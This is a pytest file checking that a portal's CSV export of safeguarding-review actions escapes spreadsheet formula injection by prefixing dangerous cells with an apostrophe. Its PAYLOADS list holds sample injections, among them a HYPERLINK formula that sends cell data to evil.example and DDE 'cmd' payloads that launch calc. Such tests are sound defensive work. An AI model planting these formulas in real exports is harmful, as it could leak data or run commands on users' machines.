"""data/actions.csv opens in a spreadsheet as text: no cell is run as a formula (OWASP: CSV injection)."""

from __future__ import annotations

import csv
import io

import pytest
from conftest import VALID_REVIEW, Project

from generator.exports import CSV_COLUMNS, spreadsheet_safe

# What a spreadsheet would run, as YAML double-quoted text: each becomes an owner, as typed (less
# the spaces around it, which every text field loses).
PAYLOADS = {
    "=1+1": "=1+1",
    "+1+1": "+1+1",
    "-1+1": "-1+1",
    "@SUM(1+1)": "@SUM(1+1)",
    '=HYPERLINK(\\"https://evil.example/?\\"&A1,\\"Report\\")': '=HYPERLINK("https://evil.example/?"&A1,"Report")',
    "+cmd|' /C calc'!A0": "+cmd|' /C calc'!A0",
    "-2+3+cmd|' /C calc'!A0": "-2+3+cmd|' /C calc'!A0",
    "\\t=1+1": "=1+1",  # the tab is stripped, leaving =1+1
    "  @SUM(1+1)": "@SUM(1+1)",
    "\\u3000=1+1": "=1+1",  # an ideographic space is stripped too
}
DANGEROUS = ("=", "+", "-", "@", "\t", "\r")


def review_with_owners(owners: list[str]) -> str:
    steps = "".join(
        f'          - text: Step {n}.\n            owner: "{owner}"\n' for n, owner in enumerate(owners)
    )
    return VALID_REVIEW.replace(
        "          - text: Audit of plans.\n            due: 2020-08\n            owner: Early Help\n", steps
    )


@pytest.fixture
def rows(project: Project) -> list[dict[str, str]]:
    review = review_with_owners(list(PAYLOADS)).replace("title: Child T", 'title: "=Child T"')
    review = review.replace("partnership: Testshire", "partnership: -Testshire")
    review = review.replace('  - id: "1"\n    title: First', '  - id: "-1"\n    title: First')
    review = review.replace("Training delivered to 9 groups.", '"@Training delivered"')
    project.write("portal.yaml", "site_url: https://portal.example.org/\n")
    project.write("reviews/child-t.yaml", review)
    result = project.run("generate", "--as-of", "2021-03-10")
    assert result.code == 0, result.err
    data = (project.root / "content/data/actions.csv").read_bytes().decode("utf-8")
    assert data.startswith(",".join(CSV_COLUMNS) + "\r\n")  # the columns are as they were
    return list(csv.DictReader(io.StringIO(data, newline="")))


def test_every_payload_is_written_as_text(rows: list[dict[str, str]]) -> None:
    owners = [row["owner"] for row in rows if row["kind"] == "next-step"]
    assert owners == ["'" + typed for typed in PAYLOADS.values()]


def test_every_field_of_the_export_is_guarded(rows: list[dict[str, str]]) -> None:
    response = rows[0]
    assert response["review_title"] == "'=Child T"
    assert response["partnership"] == "'-Testshire Safeguarding Children Partnership"
    assert response["learning_id"] == "'-1"
    assert response["text"] == "'@Training delivered"
    assert response["permalink"] == "https://portal.example.org/reviews/child-t/actions/#recommendation-1"


def test_no_cell_starts_a_formula(rows: list[dict[str, str]]) -> None:
    assert len(rows) == 1 + len(PAYLOADS)
    cells = [cell for row in rows for cell in row.values()]
    assert [cell for cell in cells if cell.lstrip().startswith(DANGEROUS) or cell.startswith(DANGEROUS)] == []


@pytest.mark.parametrize(
    ("cell", "written"),
    [
        ("=1+1", "'=1+1"),
        ("\t=1+1", "'\t=1+1"),
        ("\r=1+1", "'\r=1+1"),
        ("\tplain", "'\tplain"),
        ("  =1+1", "'  =1+1"),
        ("\n@x", "'\n@x"),
        ("-", "'-"),
        ("", ""),
        ("  ", "  "),
        ("2020-08", "2020-08"),
        ("Early Help", "Early Help"),
        ("a=b", "a=b"),
        ("'=1+1", "'=1+1"),
    ],
)
def test_spreadsheet_safe(cell: str, written: str) -> None:
    assert spreadsheet_safe(cell) == written
